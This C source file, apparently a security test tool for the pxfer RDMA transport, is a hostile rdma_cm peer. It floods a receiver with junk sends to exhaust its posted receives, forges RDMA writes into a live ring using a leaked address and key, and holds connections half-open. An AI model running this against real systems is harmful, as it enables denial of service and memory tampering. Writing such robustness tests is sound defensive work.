// SPDX-License-Identifier: MIT
/*
 * hostile_rdma - an rdma_cm peer that needs no secret: it connects to a
 * 'pxfer recv --transport rdma' the way pxfer's connections do (the same
 * connect data, as a control or a data connection), sends COUNT messages
 * of LEN bytes that are not pxfer messages, and goes away without a
 * handshake. Every message uses up one of the receiver's posted receives;
 * a receiver that does not put them back runs out and refuses the next
 * sender's data connections (receiver not ready).
 *
 *	hostile_rdma [-b SRC] [-k ctrl|data] [-n COUNT] [-l LEN] ADDR PORT
 *	hostile_rdma -w RADDR:RKEY [-b SRC] [-n COUNT] [-l LEN] ADDR PORT
 *	hostile_rdma -H SECS [-b SRC] [-k ctrl|data] ADDR PORT
 *
 * Defaults: a data connection, 300 messages of 0 bytes, posted in bursts
 * of up to 256 so that many land before the receiver can react. The sends
 * do not retry on "receiver not ready", and give up on a receiver that
 * stopped acknowledging within a fraction of a second: the first failed
 * send ends the run, which is reported, not an error. Prints "sent N of
 * COUNT".
 *
 * With -w, the address and remote key of a live ring (from the receiver's
 * -v log): COUNT connections (default 2), each of which writes LEN bytes
 * (default 4096) of 0xa5 at RADDR through RKEY from its own queue pair,
 * alternately an RDMA WRITE and an RDMA WRITE with immediate (which uses
 * up a shared receive on the receiver if it lands). Prints a line per
 * write and "forged writes: N landed, M refused".
 *
 * With -H, a half-open connect: a connect request with no QP behind it,
 * whose accept (the receiver's REP) is never answered (no RTU: the
 * connection is never established on the receiver's side); held for SECS
 * seconds, printing "half-open: accepted" once the receiver accepted.
 *
 * Exit status 0, 1 when it could not connect or send, 2 on bad usage.
 */
#include <errno.h>
#include <netdb.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <infiniband/verbs.h>
#include <rdma/rdma_cma.h>

#define MAGIC		0x70786672u	/* "pxfr": src/transport/rdma/priv.h RDMA_PRIV_MAGIC */
#define DEPTH		256
#define LEN_MAX		4096
#define WR_SEND		1
#define WR_RECV		2

__attribute__((noreturn)) static void pxfer_die(const char *what, int err)
{
	fprintf(stderr, "hostile_rdma: %s: %s\n", what, strerror(err));
	exit(1);
}

static void resolve(const char *host, const char *port, struct sockaddr_storage *ss)
{
	struct addrinfo hints = { .ai_socktype = SOCK_STREAM };
	struct addrinfo *res;
	int ret = getaddrinfo(host, port, &hints, &res);

	if (ret) {
		fprintf(stderr, "hostile_rdma: %s: %s\n", host, gai_strerror(ret));
		exit(1);
	}
	memcpy(ss, res->ai_addr, res->ai_addrlen);
	freeaddrinfo(res);
}

static void expect(struct rdma_event_channel *ech, enum rdma_cm_event_type type)
{
	struct rdma_cm_event *ev;

	if (rdma_get_cm_event(ech, &ev))
		pxfer_die("rdma_get_cm_event", errno);
	if (ev->event != type) {
		fprintf(stderr, "hostile_rdma: %s instead of %s (status %d)\n",
			rdma_event_str(ev->event), rdma_event_str(type), ev->status);
		exit(1);
	}
	rdma_ack_cm_event(ev);
}

struct peer {
	struct rdma_event_channel *ech;
	struct rdma_cm_id *id;
	struct ibv_pd *pd;
	struct ibv_cq *cq;
	struct ibv_mr *mr, *rmr;
};

static uint8_t buf[LEN_MAX], rbuf[LEN_MAX];

/* a connection to the receiver the way pxfer's connections make it */
static void peer_connect(struct peer *pe, const struct sockaddr_storage *src,
			 const struct sockaddr_storage *dst, uint8_t kind)
{
	uint8_t priv[5] = { MAGIC >> 24, (MAGIC >> 16) & 0xff,
			    (MAGIC >> 8) & 0xff, MAGIC & 0xff, kind };
	struct rdma_conn_param p = { .private_data = priv,
				     .private_data_len = sizeof(priv),
				     .retry_count = 1, .rnr_retry_count = 0 };
	struct ibv_qp_init_attr qa = { .qp_type = IBV_QPT_RC };
	uint8_t ack_timeout = 14;

	pe->ech = rdma_create_event_channel();
	if (!pe->ech || rdma_create_id(pe->ech, &pe->id, NULL, RDMA_PS_TCP))
		pxfer_die("rdma_cm", errno);
	if (rdma_resolve_addr(pe->id, src->ss_family ? (struct sockaddr *)src : NULL,
			      (struct sockaddr *)dst, 2000))
		pxfer_die("rdma_resolve_addr", errno);
	expect(pe->ech, RDMA_CM_EVENT_ADDR_RESOLVED);
	if (rdma_resolve_route(pe->id, 2000))
		pxfer_die("rdma_resolve_route", errno);
	expect(pe->ech, RDMA_CM_EVENT_ROUTE_RESOLVED);
	pe->pd = ibv_alloc_pd(pe->id->verbs);
	pe->cq = pe->pd ? ibv_create_cq(pe->id->verbs, 2 * DEPTH, NULL, NULL, 0) : NULL;
	pe->mr = pe->cq ? ibv_reg_mr(pe->pd, buf, sizeof(buf), IBV_ACCESS_LOCAL_WRITE) : NULL;
	pe->rmr = pe->mr ? ibv_reg_mr(pe->pd, rbuf, sizeof(rbuf), IBV_ACCESS_LOCAL_WRITE) : NULL;
	if (!pe->rmr)
		pxfer_die("cannot set up the PD, CQ or MR", errno);
	qa.send_cq = qa.recv_cq = pe->cq;
	qa.cap.max_send_wr = qa.cap.max_recv_wr = DEPTH;
	qa.cap.max_send_sge = qa.cap.max_recv_sge = 1;
	if (rdma_create_qp(pe->id, pe->pd, &qa))
		pxfer_die("rdma_create_qp", errno);
	/* room for what the receiver says (its CHALLENGE), never read */
	for (int i = 0; i < DEPTH; i++) {
		struct ibv_sge sge = { .addr = (uintptr_t)rbuf, .length = sizeof(rbuf),
				       .lkey = pe->rmr->lkey };
		struct ibv_recv_wr wr = { .wr_id = WR_RECV, .sg_list = &sge,
					  .num_sge = 1 }, *bad;

		if (ibv_post_recv(pe->id->qp, &wr, &bad))
			pxfer_die("ibv_post_recv", errno);
	}
	/* a receiver that closed on us is noticed in ~0.1 s, not seconds */
	rdma_set_option(pe->id, RDMA_OPTION_ID, RDMA_OPTION_ID_ACK_TIMEOUT,
			&ack_timeout, sizeof(ack_timeout));
	if (rdma_connect(pe->id, &p))
		pxfer_die("rdma_connect", errno);
	expect(pe->ech, RDMA_CM_EVENT_ESTABLISHED);
}

/* a connect request the receiver accepts, never completed on our side */
static void half_open(const struct sockaddr_storage *src,
		      const struct sockaddr_storage *dst, uint8_t kind, int secs)
{
	uint8_t priv[5] = { MAGIC >> 24, (MAGIC >> 16) & 0xff,
			    (MAGIC >> 8) & 0xff, MAGIC & 0xff, kind };
	/* with no QP on the id, rdma_cm sends what we say and leaves the
	 * RTU to rdma_establish(), which is never called */
	struct rdma_conn_param p = { .private_data = priv,
				     .private_data_len = sizeof(priv),
				     .qp_num = 0x4242, .retry_count = 1 };
	struct rdma_event_channel *ech = rdma_create_event_channel();
	struct rdma_cm_id *id;

	if (!ech || rdma_create_id(ech, &id, NULL, RDMA_PS_TCP))
		pxfer_die("rdma_cm", errno);
	if (rdma_resolve_addr(id, src->ss_family ? (struct sockaddr *)src : NULL,
			      (struct sockaddr *)dst, 2000))
		pxfer_die("rdma_resolve_addr", errno);
	expect(ech, RDMA_CM_EVENT_ADDR_RESOLVED);
	if (rdma_resolve_route(id, 2000))
		pxfer_die("rdma_resolve_route", errno);
	expect(ech, RDMA_CM_EVENT_ROUTE_RESOLVED);
	if (rdma_connect(id, &p))
		pxfer_die("rdma_connect", errno);
	expect(ech, RDMA_CM_EVENT_CONNECT_RESPONSE);
	printf("half-open: accepted\n");
	fflush(stdout);
	sleep((unsigned int)secs);
	rdma_destroy_id(id);
	rdma_destroy_event_channel(ech);
}

static void peer_close(struct peer *pe)
{
	rdma_disconnect(pe->id);
	rdma_destroy_qp(pe->id);
	ibv_dereg_mr(pe->rmr);
	ibv_dereg_mr(pe->mr);
	ibv_destroy_cq(pe->cq);
	ibv_dealloc_pd(pe->pd);
	rdma_destroy_id(pe->id);
	rdma_destroy_event_channel(pe->ech);
}

/* empty (or LEN-byte) messages until COUNT went or the receiver refused */
static void send_junk(struct peer *pe, int count, int len)
{
	int sent = 0, out = 0, refused = 0;

	while (sent < count && !refused) {
		struct ibv_sge sge = { .addr = (uintptr_t)buf, .length = len,
				       .lkey = pe->mr->lkey };
		struct ibv_send_wr wr = { .wr_id = WR_SEND, .sg_list = &sge,
					  .num_sge = len ? 1 : 0,
					  .opcode = IBV_WR_SEND,
					  .send_flags = IBV_SEND_SIGNALED }, *bad;
		struct ibv_wc wc[DEPTH];
		int n;

		if (out < DEPTH && sent + out < count) {
			if (ibv_post_send(pe->id->qp, &wr, &bad))
				pxfer_die("ibv_post_send", errno);
			out++;
			continue;
		}
		n = ibv_poll_cq(pe->cq, DEPTH, wc);
		if (n < 0)
			pxfer_die("ibv_poll_cq", EIO);
		for (int i = 0; i < n; i++) {
			if (wc[i].wr_id != WR_SEND)
				continue;
			out--;
			if (wc[i].status == IBV_WC_SUCCESS)
				sent++;
			else if (!refused++)
				printf("the receiver stopped taking messages: %s\n",
				       ibv_wc_status_str(wc[i].status));
		}
	}
	printf("sent %d of %d\n", sent, count);
}

/* one forged write at @raddr through @rkey; 1 if it landed */
static int forge_write(struct peer *pe, uint64_t raddr, uint32_t rkey,
		       int len, int with_imm)
{
	struct ibv_sge sge = { .addr = (uintptr_t)buf, .length = len,
			       .lkey = pe->mr->lkey };
	struct ibv_send_wr wr = { .wr_id = WR_SEND, .sg_list = &sge,
				  .num_sge = len ? 1 : 0,
				  .opcode = with_imm ? IBV_WR_RDMA_WRITE_WITH_IMM
						     : IBV_WR_RDMA_WRITE,
				  .send_flags = IBV_SEND_SIGNALED }, *bad;
	struct ibv_wc wc;
	int n;

	wr.imm_data = 0;		/* slot 0 */
	wr.wr.rdma.remote_addr = raddr;
	wr.wr.rdma.rkey = rkey;
	if (ibv_post_send(pe->id->qp, &wr, &bad))
		pxfer_die("ibv_post_send", errno);
	do {
		n = ibv_poll_cq(pe->cq, 1, &wc);
	} while (n == 0 || (n == 1 && wc.wr_id != WR_SEND));
	if (n < 0)
		pxfer_die("ibv_poll_cq", EIO);
	printf("%s of %d bytes at 0x%llx key 0x%x: %s\n",
	       with_imm ? "RDMA write with immediate" : "RDMA write", len,
	       (unsigned long long)raddr, rkey, ibv_wc_status_str(wc.status));
	return wc.status == IBV_WC_SUCCESS;
}

int main(int argc, char **argv)
{
	struct sockaddr_storage dst = { 0 }, src = { 0 };
	struct peer pe;
	int count = -1, len = -1, opt, landed = 0, forge = 0, hold = -1;
	unsigned long long raddr = 0;
	unsigned int rkey = 0;
	uint8_t kind = 1;

	while ((opt = getopt(argc, argv, "b:k:n:l:w:H:")) != -1) {
		switch (opt) {
		case 'H': hold = atoi(optarg); break;
		case 'b': resolve(optarg, NULL, &src); break;
		case 'k': kind = !strcmp(optarg, "ctrl") ? 0 : 1; break;
		case 'n': count = atoi(optarg); break;
		case 'l': len = atoi(optarg); break;
		case 'w':
			if (sscanf(optarg, "%llx:%x", &raddr, &rkey) != 2)
				goto usage;
			forge = 1;
			break;
		default: goto usage;
		}
	}
	if (count < 0)
		count = forge ? 2 : 300;
	if (len < 0)
		len = forge ? LEN_MAX : 0;
	if (argc - optind != 2 || len > LEN_MAX)
		goto usage;
	resolve(argv[optind], argv[optind + 1], &dst);
	memset(buf, 0xa5, sizeof(buf));
	if (hold >= 0) {
		half_open(&src, &dst, kind, hold);
		return 0;
	}

	if (!forge) {
		peer_connect(&pe, &src, &dst, kind);
		send_junk(&pe, count, len);
		peer_close(&pe);
		return 0;
	}
	/* a QP that was refused is in error: a new connection for each */
	for (int i = 0; i < count; i++) {
		peer_connect(&pe, &src, &dst, kind);
		landed += forge_write(&pe, raddr, rkey, len, i & 1);
		peer_close(&pe);
	}
	printf("forged writes: %d landed, %d refused\n", landed, count - landed);
	return 0;
usage:
	fprintf(stderr, "usage: hostile_rdma [-b SRC] [-k ctrl|data] [-n COUNT] [-l LEN] [-w RADDR:RKEY | -H SECS] ADDR PORT\n");
	return 2;
}
